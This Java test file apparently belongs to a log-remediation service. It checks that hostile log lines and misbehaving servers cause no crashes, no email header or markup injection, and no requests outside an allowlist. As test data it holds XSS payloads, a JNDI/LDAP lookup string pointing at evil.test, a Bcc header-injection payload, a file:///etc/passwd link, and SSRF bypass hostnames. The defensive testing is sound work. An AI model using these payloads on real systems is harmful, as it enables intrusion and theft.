package dev.logremediation.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.logremediation.hostile.HostileCorpus.Entry;
import dev.logremediation.pipeline.RunningPipeline;
import dev.logremediation.sandbox.SandboxLoki;
import dev.logremediation.sandbox.SandboxPizza;
import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The hostile corpus ({@code src/test/resources/hostile/lines.jsonl}) through the real routes, with remediation on.
 * Traps: an HTTP server on 127.0.0.2 and one on 127.0.0.1 (reached only through names that are not on the
 * allowlist: localhost, 0.0.0.0, 2130706433...), both answering "Problem resolved" as a factory would; and an
 * allow-listed server on 127.0.0.1 that redirects to the trap, answers with markup and header injections, or answers
 * 8 MB. The allowlist is {@code 127.0.0.1} (the sandbox factory) and {@code *.localhost}.
 */
class HostileInputTest {

    static final String FAKE_KEY = "c0ffee00c0ffee00c0ffee00c0ffee00";
    static final String ONCALL = "oncall@demo.local";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern FIX_CODE = Pattern.compile("(?:/report/|fixCode=)([0-9a-z]+)");
    private static final Pattern RESOLVED_COUNT = Pattern.compile("^\\[RESOLVED] jwt-pizza-service: (\\d+) errors");
    private static final long SECOND = 1_000_000_000L;

    private SandboxPizza pizza;
    private List<Entry> corpus;
    private String chaosLink;

    @AfterEach
    void closeShop() {
        if (pizza != null) {
            pizza.close();
        }
    }

    @Test
    void theHostileCorpusNeitherCrashesNorInjectsHeadersOrMarkupNorEscapesTheAllowlist() throws Exception {
        try (TrapServer trapA = TrapServer.start("127.0.0.2");
             TrapServer trapB = TrapServer.start("127.0.0.1");
             TrapServer allowed = TrapServer.start("127.0.0.1", misbehavingFactory(trapA));
             ProductOutput output = new ProductOutput(false);
             RunningPipeline pipeline = RunningPipeline.start(loki -> {
                 pizza = SandboxPizza.start(loki);
                 chaosLink = pizza.startChaos("fail");
                 corpus = HostileCorpus.load(Map.of("KEY", FAKE_KEY, "TRAP_A", trapA.authority(),
                         "TRAP_B_PORT", Integer.toString(trapB.port()), "ALLOWED", "http://" + allowed.authority(),
                         "CHAOS_LINK", chaosLink));
                 pushByBatch(loki, corpus, RunningPipeline.nowNanos() - 100 * SECOND);
                 Map<String, String> settings = new HashMap<>();
                 settings.put("remediation.enabled", "true");
                 settings.put("remediation.allowed-hosts", "127.0.0.1,*.localhost");
                 settings.put("remediation.response-timeout", "5000");
                 settings.put("verification.enabled", "false");
                 settings.put("loki.overlap", "3m");
                 settings.put("loki.poll-interval", "1s");
                 settings.put("incident.quiet-period", "2s");
                 settings.put("observe.port", "0"); // parallel builds: never fight over a fixed port
                 return settings;
             })) {
            Map<Integer, List<Entry>> batches = HostileCorpus.batches(corpus);
            assertThat(corpus).as("the corpus holds at least 50 lines").hasSizeGreaterThanOrEqualTo(50);
            batches.forEach((batch, entries) -> {
                assertThat(entries).as("batch %d opens an incident on its own", batch).hasSizeGreaterThanOrEqualTo(5);
                assertThat(entries.stream().mapToInt(e -> e.refuse().size() + e.follow().size()
                        + (e.line().contains(chaosLink) ? 1 : 0)).sum())
                        .as("batch %d stays within an incident's 10 links", batch).isLessThanOrEqualTo(10);
            });
            String chaosCode = fixCode(chaosLink);
            Set<String> refused = codes(corpus, Entry::refuse);
            Set<String> followed = new TreeSet<>(codes(corpus, Entry::follow));
            followed.add(chaosCode);
            long batchesWithLinks = batches.values().stream().filter(entries -> entries.stream()
                    .anyMatch(e -> !e.refuse().isEmpty() || !e.follow().isEmpty() || e.line().contains(chaosLink))).count();
            Path audit = pipeline.stateDir.resolve("audit.jsonl");

            await().atMost(Duration.ofSeconds(120)).untilAsserted(() -> {
                assertThat(resolvedSubjects(pipeline)).as("one RESOLVED email per batch").hasSize(batches.size());
                assertThat(auditCodes(audit)).as("every link's audit line").containsAll(refused).containsAll(followed);
                assertThat(remediationSubjects(pipeline)).as("one remediation email per batch with links")
                        .hasSize((int) batchesWithLinks);
            });

            // the routes keep running: later polls still happen, every route is started
            int queries = pipeline.loki.queryCount();
            await().atMost(Duration.ofSeconds(20)).until(() -> pipeline.loki.queryCount() >= queries + 2);
            SoftAssertions softly = new SoftAssertions();
            for (String route : List.of("watch-jwt-pizza-service", "detect", "aggregate-errors", "incident-closed",
                    "notify", "send-email", "remediation-rounds", "follow-links", "verify-remediation")) {
                softly.assertThat(pipeline.context().getRouteController().getRouteStatus(route).isStarted())
                        .as("route %s still started", route).isTrue();
            }
            softly.assertThat(output.events("ERROR")).as("no route failed on a hostile line (the routes' error handlers"
                    + " log ERROR under dev.logremediation)").filteredOn(e -> e.logger().startsWith("dev.logremediation"))
                    .isEmpty();
            softly.assertThat(output.events()).as("the product's own log lines stay one clean line each (no CR/LF or"
                            + " bidi characters from a log line or a factory answer: forged log lines)")
                    .filteredOn(e -> e.logger().startsWith("dev.logremediation"))
                    .filteredOn(e -> MailChecks.hasInvisible(e.message().replace('\t', ' ')))
                    .extracting(e -> e.logger() + ": " + MailChecks.printable(e.message()))
                    .isEmpty();

            // every line was counted as an error of the incident of its batch
            List<String> subjects = pipeline.subjects();
            softly.assertThat(subjects.stream().filter(s -> s.startsWith("[FIRING] jwt-pizza-service: ")))
                    .as("one FIRING email per batch").hasSize(batches.size());
            int counted = resolvedSubjects(pipeline).stream().mapToInt(HostileInputTest::resolvedCount).sum();
            softly.assertThat(counted).as("errors counted over all RESOLVED emails").isEqualTo(corpus.size());

            // every email: one Subject/To/From on the wire, nothing injected, a clean subject, HTML without active content
            String from = pipeline.context().resolvePropertyPlaceholders("{{mail.from}}");
            List<MimeMessage> emails = pipeline.emails();
            softly.assertThat(emails).as("nothing smuggled: FIRING + RESOLVED + remediation emails only")
                    .hasSize(2 * batches.size() + (int) batchesWithLinks);
            softly.assertThat(emails.stream().map(HostileInputTest::messageId).distinct().count())
                    .as("each email delivered once, to one recipient").isEqualTo(emails.size());
            List<String> problems = new ArrayList<>();
            emails.forEach(email -> problems.addAll(MailChecks.problems(email, ONCALL, from)));
            softly.assertThat(problems).as("problems in the emails' raw MIME and HTML").isEmpty();
            // positive controls: the hostile text is there, escaped and not evaluated
            String allHtml = emails.stream().map(m -> MailChecks.part(m, "text/html")).collect(Collectors.joining("\n"));
            String allText = emails.stream().map(m -> MailChecks.part(m, "text/plain")).collect(Collectors.joining("\n"));
            // the template engine escapes "=" too
            softly.assertThat(allHtml).contains("&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&lt;img src&#61;x onerror&#61;alert(1)&gt;",
                    "javascript:alert(document.cookie)");
            softly.assertThat(allText).contains("{{mail.password}}", "${exchangeProperty.watch}", "${jndi:ldap://evil.test/a}");

            // nothing reached a host outside the allowlist; the allow-listed ones exactly once each
            softly.assertThat(trapA.requests()).as("requests that reached the trap on 127.0.0.2").isEmpty();
            softly.assertThat(trapB.requests()).as("requests that reached the trap on 127.0.0.1 through other names").isEmpty();
            softly.assertThat(allowed.requests()).extracting(TrapServer.Request::uri).map(HostileInputTest::fixCode)
                    .containsExactlyInAnyOrderElementsOf(codes(corpus, Entry::follow));
            softly.assertThat(allowed.requests()).allSatisfy(request -> {
                assertThat(request.method()).isEqualTo("GET");
                assertThat(request.header("Cookie")).isNull();
                assertThat(request.header("Authorization")).isNull();
            });
            softly.assertThat(pizza.supportRequests()).as("the real chaos link, followed once").hasSize(1);
            softly.assertThat(pizza.chaosActive()).isFalse();

            // the audit: every refusal with its reason, every follow to an allow-listed host, no api key
            List<JsonNode> auditLines = auditLines(audit);
            for (String code : refused) {
                softly.assertThat(auditLines).as("refusal of %s", code).anySatisfy(line -> {
                    assertThat(fixCode(line.path("target").asText())).isEqualTo(code);
                    assertThat(line.path("action").asText()).isEqualTo("refuse-link");
                    assertThat(line.path("outcome").asText()).isEqualTo("REFUSED_BY_POLICY");
                    assertThat(line.path("detail").asText()).isNotBlank();
                });
            }
            softly.assertThat(auditLines).filteredOn(line -> line.path("action").asText().equals("follow-link"))
                    .extracting(line -> fixCode(line.path("target").asText()))
                    .containsExactlyInAnyOrderElementsOf(followed);
            softly.assertThat(auditLines).filteredOn(line -> line.path("action").asText().equals("follow-link"))
                    .allSatisfy(line -> assertThat(URI.create(line.path("target").asText()).getHost())
                            .isEqualTo("127.0.0.1"));
            softly.assertThat(auditLines).extracting(line -> fixCode(line.path("target").asText()))
                    .as("no link was extracted that the corpus does not expect")
                    .allMatch(code -> refused.contains(code) || followed.contains(code));
            softly.assertThat(Files.readString(audit)).doesNotContain(FAKE_KEY).doesNotContain(pizza.apiKey());

            try (Stream<Path> reports = Files.list(pipeline.stateDir.resolve("reports"))) {
                softly.assertThat(reports.count()).as("one stored report per incident").isEqualTo(batches.size());
            }
            softly.assertAll();
        }
    }

    /**
     * A Loki-compatible server or gateway whose answer carries a line's bytes as they were pushed, so the answer is
     * not valid UTF-8 (Loki itself replaces them with U+FFFD; other stores and proxies have been seen not to): the
     * valid error lines on the same page must still open an incident, and the watch must not be stuck on that page.
     */
    @Test
    void invalidUtf8BytesInLokisAnswerDoNotBlindTheWatch() throws Exception {
        List<Entry> invalid = HostileCorpus.load(Map.of("KEY", FAKE_KEY, "TRAP_A", "127.0.0.2:9", "TRAP_B_PORT", "9",
                "ALLOWED", "http://127.0.0.1:9", "CHAOS_LINK", "x")).stream().filter(Entry::invalidUtf8).toList();
        assertThat(invalid).hasSizeGreaterThanOrEqualTo(5);
        long ts = RunningPipeline.nowNanos() - 5 * SECOND;
        List<byte[]> lines = new ArrayList<>();
        for (int i = 1; i <= 5; i++) {
            lines.add(("{\"statusCode\":500,\"message\":\"valid error " + i + "\"}").getBytes(StandardCharsets.UTF_8));
        }
        invalid.forEach(entry -> lines.add(entry.rawBytes()));
        byte[] answer = queryRangeAnswer(ts, lines);
        try (TrapServer rawLoki = TrapServer.start("127.0.0.1", exchange -> {
                 exchange.getResponseHeaders().set("Content-Type", "application/json; charset=UTF-8");
                 exchange.sendResponseHeaders(200, answer.length);
                 try (OutputStream out = exchange.getResponseBody()) {
                     out.write(answer);
                 }
             });
             ProductOutput output = new ProductOutput(false);
             RunningPipeline pipeline = RunningPipeline.start(Map.of("loki.url", "http://" + rawLoki.authority(),
                     "observe.port", "0"))) {
            await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertThat(pipeline.subjects())
                    .as(() -> "a FIRING email for the 5 valid error lines on a page that also holds invalid UTF-8; "
                            + rawLoki.requests().size() + " polls so far; the product logged: " + output.events("WARN")
                            .stream().map(ProductOutput.Event::text).distinct().toList())
                    .anyMatch(s -> s.startsWith("[FIRING] jwt-pizza-service: ")));
            int polls = rawLoki.requests().size();
            await().atMost(Duration.ofSeconds(10)).until(() -> rawLoki.requests().size() >= polls + 2);
        }
    }

    /**
     * An operator's extra link pattern that is looser than the built-in shapes would match javascript:, data: and
     * file: text: only http(s) matches become links, and the one to a host off the allowlist is refused.
     */
    @Test
    void linksOfOtherSchemesFromALooseOperatorPatternAreRefusedAndNeverClickable() throws Exception {
        try (TrapServer trapA = TrapServer.start("127.0.0.2");
             ProductOutput output = new ProductOutput(false);
             RunningPipeline pipeline = RunningPipeline.start(Map.of(
                     "detect.extra-link-patterns", "(?<link>[^\\s\"'<>]+/chaos/end/[0-9a-z]{8})",
                     "remediation.enabled", "true",
                     "remediation.allowed-hosts", "127.0.0.1",
                     "observe.port", "0"))) {
            List<String> links = List.of("javascript:alert(document.domain)//x/chaos/end/jsjsjsjs",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==/chaos/end/datadata",
                    "file:///etc/passwd/chaos/end/filefile",
                    "vbscript:msgbox(1)/chaos/end/vbvbvbvb",
                    "http://" + trapA.authority() + "/chaos/end/traptrap");
            long ts = RunningPipeline.nowNanos() - 3 * SECOND;
            for (int i = 0; i < links.size(); i++) {
                pipeline.loki.push(Map.of("component", "jwt-pizza-service", "level", "error"), ts + i,
                        "{\"statusCode\":500,\"message\":\"chaos\",\"fix\":\"" + links.get(i) + "\"}");
            }
            Path audit = pipeline.stateDir.resolve("audit.jsonl");
            await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
                assertThat(auditLines(audit)).hasSize(1);
                assertThat(remediationSubjects(pipeline)).hasSize(1);
            });
            assertThat(auditLines(audit)).singleElement().satisfies(line ->
                    assertThat(line.path("target").asText()).startsWith("http://" + trapA.authority()));
            assertThat(auditLines(audit)).allSatisfy(line -> {
                assertThat(line.path("action").asText()).isEqualTo("refuse-link");
                assertThat(line.path("detail").asText()).isNotBlank();
            });
            assertThat(trapA.requests()).isEmpty();
            String from = pipeline.context().resolvePropertyPlaceholders("{{mail.from}}");
            List<String> problems = new ArrayList<>();
            pipeline.emails().forEach(email -> problems.addAll(MailChecks.problems(email, ONCALL, from)));
            assertThat(problems).as("problems in the emails' raw MIME and HTML").isEmpty();
            assertThat(output.events("ERROR")).filteredOn(e -> e.logger().startsWith("dev.logremediation")).isEmpty();
        }
    }

    // ---- helpers ----

    /** Batch n's lines 5 s (log time) after batch n-1's, so each batch is an incident of its own; 1 ms apart inside. */
    static void pushByBatch(SandboxLoki loki, List<Entry> corpus, long startNanos) {
        Map<Integer, List<Entry>> batches = HostileCorpus.batches(corpus);
        int b = 0;
        for (List<Entry> entries : batches.values()) {
            for (int i = 0; i < entries.size(); i++) {
                Entry entry = entries.get(i);
                loki.push(entry.labels(), startNanos + b * 5 * SECOND + i * 1_000_000L, entry.line());
            }
            b++;
        }
    }

    private static TrapServer.Handler misbehavingFactory(TrapServer trap) {
        return exchange -> {
            String path = exchange.getRequestURI().getPath();
            if (path.endsWith("/redir001")) {
                exchange.getResponseHeaders().set("Location", "http://" + trap.authority() + "/api/support/" + FAKE_KEY
                        + "/report/redirect");
                exchange.sendResponseHeaders(302, -1);
            } else if (path.endsWith("/hostil01")) {
                TrapServer.send(exchange, 200, "{\"message\":\"<script>alert(1)</script>\\r\\nBcc: victim@evil.test\\r\\n"
                        + "Subject: pwned \\u202e<img src=x onerror=alert(2)> <a href=\\\"javascript:alert(3)\\\">x</a>\"}");
            } else if (path.endsWith("/huge0001")) {
                exchange.sendResponseHeaders(200, 0);
                byte[] chunk = "<script>alert(1)</script>".repeat(2600).getBytes(StandardCharsets.UTF_8);
                try (OutputStream out = exchange.getResponseBody()) {
                    for (int written = 0; written < 8 * 1024 * 1024; written += chunk.length) {
                        out.write(chunk);
                    }
                }
            } else {
                TrapServer.send(exchange, 404, "{\"message\":\"unknown endpoint\"}");
            }
        };
    }

    /** A Loki query_range answer whose line strings hold the given bytes verbatim (only JSON's specials escaped). */
    static byte[] queryRangeAnswer(long firstNanos, List<byte[]> lines) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(("{\"status\":\"success\",\"data\":{\"resultType\":\"streams\",\"result\":[{\"stream\":"
                + "{\"component\":\"jwt-pizza-service\",\"level\":\"error\",\"type\":\"http\"},\"values\":[")
                .getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < lines.size(); i++) {
            out.writeBytes(((i == 0 ? "" : ",") + "[\"" + (firstNanos + i * 1_000_000L) + "\",\"")
                    .getBytes(StandardCharsets.UTF_8));
            for (byte b : lines.get(i)) {
                int c = b & 0xff;
                if (c == '"' || c == '\\') {
                    out.write('\\');
                    out.write(c);
                } else if (c < 0x20) {
                    out.writeBytes(String.format("\\u%04x", c).getBytes(StandardCharsets.US_ASCII));
                } else {
                    out.write(c);
                }
            }
            out.writeBytes("\"]".getBytes(StandardCharsets.UTF_8));
        }
        out.writeBytes("]}],\"stats\":{}}}".getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static Set<String> codes(List<Entry> corpus, java.util.function.Function<Entry, List<String>> which) {
        return corpus.stream().flatMap(e -> which.apply(e).stream()).collect(Collectors.toCollection(LinkedHashSet::new));
    }

    static String fixCode(String link) {
        Matcher m = FIX_CODE.matcher(link);
        String code = null;
        while (m.find()) {
            code = m.group(1);
        }
        return code;
    }

    static List<JsonNode> auditLines(Path audit) {
        if (!Files.exists(audit)) {
            return List.of();
        }
        try {
            List<JsonNode> lines = new ArrayList<>();
            for (String line : Files.readAllLines(audit, StandardCharsets.UTF_8)) {
                if (!line.isBlank()) {
                    lines.add(JSON.readTree(line));
                }
            }
            return lines;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Set<String> auditCodes(Path audit) {
        return auditLines(audit).stream().map(line -> fixCode(line.path("target").asText()))
                .collect(Collectors.toCollection(TreeSet::new));
    }

    static List<String> resolvedSubjects(RunningPipeline pipeline) {
        return pipeline.subjects().stream().filter(s -> s.startsWith("[RESOLVED]")).toList();
    }

    static List<String> remediationSubjects(RunningPipeline pipeline) {
        return pipeline.subjects().stream().filter(s -> s.startsWith("[REMEDIAT")).toList();
    }

    private static int resolvedCount(String subject) {
        Matcher m = RESOLVED_COUNT.matcher(subject);
        assertThat(m.find()).as("RESOLVED subject with a count: %s", subject).isTrue();
        return Integer.parseInt(m.group(1));
    }

    private static String messageId(MimeMessage message) {
        try {
            return message.getMessageID();
        } catch (MessagingException e) {
            throw new IllegalStateException(e);
        }
    }
}
